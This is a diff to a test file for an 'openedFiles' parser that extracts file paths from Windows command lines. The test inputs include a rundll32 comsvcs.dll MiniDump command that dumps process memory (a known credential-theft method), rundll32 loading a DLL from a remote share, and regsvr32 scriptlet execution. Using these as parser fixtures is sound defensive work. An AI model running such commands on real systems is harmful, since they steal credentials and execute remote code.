@@ -43,6 +43,11 @@ describe('openedFiles', () => {
       "rundll32.exe '\\\\\\\\192.0.2.1\\\\share\\\\a.dll,0'",
       ['\\\\192.0.2.1\\share\\a.dll'],
     ],
+    [
+      system('rundll32.exe'),
+      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 628 C:\\Users\\Public\\a.bin full',
+      ['C:\\Windows\\System32\\comsvcs.dll'],
+    ],
     [system('regsvr32.exe'), 'regsvr32 /s /n /i:C:\\t\\a.sct scrobj.dll', ['C:\\t\\a.sct']],
     [system('msiexec.exe'), 'msiexec.exe /i C:\\Deploy\\agent-4.2.msi /qn', ['C:\\Deploy\\agent-4.2.msi']],
     [system('cmd.exe'), 'cmd.exe /c "C:\\Users\\amber\\run me.bat"', ['C:\\Users\\amber\\run me.bat']],
